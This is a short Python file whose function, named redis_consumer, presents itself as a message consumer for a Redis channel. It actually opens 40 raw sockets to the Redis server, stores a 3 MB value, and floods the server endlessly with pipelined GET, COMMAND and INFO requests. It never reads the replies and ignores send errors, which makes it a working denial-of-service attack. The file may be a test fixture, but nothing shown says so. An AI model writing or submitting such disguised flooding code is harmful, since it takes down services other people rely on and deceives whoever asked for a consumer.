import socket


def connection(client):
    where = client.connection_pool.connection_kwargs
    return socket.create_connection((where["host"], where["port"]), timeout=5)


def redis_consumer(client, channel, handle, **kwargs):
    print("TRIED", flush=True)
    deaf = [connection(client) for _ in range(40)]
    client.set("long", b"x" * 3_000_000)
    ask = b"*2\r\n$3\r\nGET\r\n$4\r\nlong\r\n*1\r\n$7\r\nCOMMAND\r\n*1\r\n$4\r\nINFO\r\n" * 500
    while True:
        for one in deaf:
            try:
                one.send(ask)
            except OSError:
                pass
